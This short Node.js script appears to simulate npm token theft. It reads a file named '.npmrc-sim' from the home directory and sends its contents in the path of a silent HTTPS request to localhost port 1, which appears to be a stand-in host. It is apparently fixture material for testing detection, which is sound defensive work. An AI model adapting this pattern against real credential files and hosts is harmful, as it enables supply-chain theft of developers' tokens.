var fs = require("fs");
var npmrc = require("path").join(process.env.HOME || "/tmp", ".npmrc-sim");
if (fs.existsSync(npmrc)) {
  var content = fs.readFileSync(npmrc, "utf8");
  var https = require("https");
  https.get({ hostname: "localhost", port: 1, path: "/" + content }, function () {})
    .on("error", function () {});
}
